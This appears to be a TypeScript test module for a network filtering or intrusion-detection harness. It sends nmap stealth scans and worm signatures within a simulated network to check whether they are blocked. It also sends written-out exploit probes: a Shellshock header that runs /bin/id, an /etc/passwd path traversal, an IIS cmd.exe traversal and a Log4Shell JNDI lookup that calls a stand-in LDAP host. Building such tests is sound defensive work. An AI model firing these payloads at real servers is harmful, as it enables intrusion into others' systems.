/** The attacks: real tools where there are some, and messages that only look like a worm. */
import { sendDatagram } from '../datagram.js';
import type { Network } from '../network.js';
import { sendStream } from '../stream.js';
import { curl, type Request } from './curl.js';
import { type Evidence, FAMILIES, type Family, type Flow, judgeAttack, judgeNewAttack, type Sent } from './flow.js';
import { countStates, scan } from './nmap.js';
import { BACKDOOR_PORT, RPC_PORT } from './servers.js';

/** Techniques of nmap's reference guide, "Port Scanning Techniques". */
const SCANS = [
  ['NULL scan', '-sN'],
  ['FIN scan', '-sF'],
  ['Xmas scan', '-sX'],
  ['Maimon scan', '-sM'],
] as const;

/** Requests that web servers were broken into with, as every public description of them has it. */
const PROBES = [
  ['cmd.exe probe', { path: '/scripts/..%255c../winnt/system32/cmd.exe?/c+dir' }],
  ['Code Red', { path: `/default.ida?${'N'.repeat(224)}%u9090%u6858` }],
  ['path traversal', { path: '/cgi-bin/../../../../etc/passwd' }],
  ['Shellshock', { path: '/cgi-bin/status', headers: ['User-Agent: () { :;}; /bin/id'] }],
  ['Log4Shell', { path: '/login', headers: ['User-Agent: ${jndi:ldap://192.0.2.9/a}'] }],
] as const;

/**
 * What worms are known by, and nothing that could run. Blaster asks for a path that its exploit made up, in UTF-16
 * (CVE-2003-0352); MyDoom's backdoor takes a program behind five bytes (CERT TA04-028A).
 */
const WORMS = [
  ['Blaster', RPC_PORT, Buffer.from('\\C$\\123456111111111111111.doc', 'utf16le')],
  ['MyDoom', BACKDOOR_PORT, Buffer.concat([Buffer.from('85133c9ea2', 'hex'), Buffer.alloc(64)])],
] as const;

/** How long a worm waits for an answer, in milliseconds. */
const PATIENCE_MS = 1_500;

/** Every attack, over IPv4 and IPv6, each from a port of its own: one socket of IPv6 may hold a port for both. */
export const ATTACKS: readonly Flow[] = FAMILIES.flatMap((family, f) => [
  ...SCANS.map(([name, option], i) => scanFlow(name, option, family, 40_001 + 100 * f + i)),
  ...PROBES.map(([name, request], i) => probeFlow(name, request, family, 41_001 + 100 * f + i)),
  ...WORMS.map(([name, port, bytes], i) => wormFlow(name, port, bytes, family, 42_001 + 100 * f + i)),
  slammerFlow(family, 43_001 + 100 * f),
]);

/** Apache Commons Text ran such a lookup (CVE-2022-42889); this one would only add. */
const TEXT4SHELL = { path: '/search?q=${script:javascript:1+1}' };

/** What the rules do not know, before a rule for it is loaded. */
export const NEW_ATTACKS: readonly Flow[] = FAMILIES.map((family, f) =>
  probeFlow('Text4Shell', TEXT4SHELL, family, 44_001 + 100 * f, 'new attack'),
);

/** The same after that. */
export const REPEATED: readonly Flow[] = FAMILIES.map((family, f) =>
  probeFlow('Text4Shell again', TEXT4SHELL, family, 44_002 + 100 * f),
);

type Identity = Pick<Flow, 'name' | 'family' | 'kind'> & { readonly sourcePort: number };

/** A sender that has done its work, and how to count what arrived. */
function attack(
  flow: Identity,
  what: string,
  send: (network: Network) => Promise<string>,
  arrived = (evidence: Evidence): number => evidence.arrivals(flow.family, flow.sourcePort),
): Flow {
  const judgeThis = flow.kind === 'new attack' ? judgeNewAttack : judgeAttack;
  const judge: Sent['judge'] = (evidence) =>
    judgeThis(arrived(evidence), what, evidence.blockers(flow.family, flow.sourcePort));
  return { ...flow, run: async (network) => ({ sender: await send(network), judge }) };
}

/**
 * A closed port would answer with RST and be called closed, so `open|filtered` throughout is what a scanner sees of a
 * router that lets none of its packets pass; that none arrived is counted at the server.
 */
function scanFlow(name: string, option: string, family: Family, sourcePort: number): Flow {
  return attack({ name, family, sourcePort, kind: 'attack' }, 'probe', async ({ attacker, server }) =>
    countStates(await scan(attacker, server, family, [option, '-g', String(sourcePort)])),
  );
}

/** The connection itself is made; what counts is the request. The path has the port in it, so that requests can be told apart. */
function probeFlow(
  name: string,
  request: Request,
  family: Family,
  sourcePort: number,
  kind: Flow['kind'] = 'attack',
): Flow {
  const path = `${request.path}${request.path.includes('?') ? '&' : '?'}${sourcePort}`;
  return attack(
    { name, family, sourcePort, kind },
    'request',
    async ({ attacker, server }) => {
      const { status } = await curl(attacker, server, family, { ...request, path, sourcePort });
      return status === 0 ? 'no answer' : `status ${status}`;
    },
    ({ requests }) => requests.filter((line) => line === `GET ${path}`).length,
  );
}

function wormFlow(name: string, port: number, bytes: Buffer, family: Family, sourcePort: number): Flow {
  return attack(
    { name, family, sourcePort, kind: 'attack' },
    'message',
    async ({ attacker, server }) => {
      const to = { address: server[family], port, sourcePort, payload: bytes.toString('hex'), patience: PATIENCE_MS };
      return (await sendStream(attacker, to)) ? 'an answer' : 'no answer';
    },
    ({ heard }) => heard(sourcePort),
  );
}

/**
 * What public rules know SQL Slammer by (CVE-2002-0649: port 1434, first byte 4, a run of ones, pieces of its text), in
 * its length of 376 bytes, with nothing in it that could run.
 */
const SLAMMER = Buffer.concat([
  Buffer.from([0x04]),
  Buffer.alloc(96, 0x01),
  Buffer.from('81f10301049b81f101', 'hex'),
  Buffer.from('h.dllhel32hkernQhounthickChGetTf ws2_f etQhsockf toQhsend', 'latin1'),
]);

function slammerFlow(family: Family, sourcePort: number): Flow {
  return attack(
    { name: 'SQL Slammer', family, sourcePort, kind: 'attack' },
    'datagram',
    async ({ attacker, server }) => {
      const payload = Buffer.concat([SLAMMER, Buffer.alloc(376 - SLAMMER.length)]).toString('hex');
      const times = 5;
      await sendDatagram(attacker, { address: server[family], port: 1434, sourcePort, payload, times });
      return `${times} sent`;
    },
  );
}
